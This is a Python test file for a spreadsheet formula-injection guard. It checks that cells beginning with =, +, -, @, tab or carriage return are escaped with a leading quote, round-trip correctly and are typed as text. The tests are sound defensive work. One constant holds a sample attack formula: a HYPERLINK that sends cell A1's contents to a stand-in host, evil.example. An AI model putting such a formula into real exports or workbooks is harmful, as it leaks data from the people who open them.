"""The formula guard (copied from the CSV-injection suite, now against tabular.guard)."""
from __future__ import annotations

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from tabular import guard

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'


@pytest.mark.parametrize(("text", "guarded"), [
    (EVIL, "'" + EVIL), ("+1+1", "'+1+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("'=x", "''=x"),
    ("-1.5", "-1.5"), ("+3", "+3"), ("plain", "plain"), ("", ""), ("'quoted", "'quoted"),
    ("a=b", "a=b")])
def test_guard_cell(text, guarded):
    assert guard.guard_cell(text) == guarded
    assert guard.unguard_cell(guarded) == text


@given(st.text())
def test_guard_round_trips_and_never_starts_a_formula(text):
    guarded = guard.guard_cell(text)
    assert guard.unguard_cell(guarded) == text
    if guarded.startswith(guard.FORMULA_START):
        float(guarded)  # only plain numbers may start with a sign


def test_safe_value_and_row_touch_only_text():
    assert guard.safe_value(EVIL) == "'" + EVIL
    assert guard.safe_value(-1.5) == -1.5 and guard.safe_value(None) is None
    assert guard.safe_row([EVIL, 3, None, "ok"]) == ["'" + EVIL, 3, None, "ok"]


def test_mark_text_cells_types_text_as_strings():
    book = openpyxl.Workbook()
    ws = book.active
    ws.append([EVIL, 1.5, None])
    guard.mark_text_cells(ws.iter_rows())
    text, number, empty = ws[1]
    assert text.value == EVIL and text.data_type == "s"
    assert number.data_type == "n" and empty.value is None

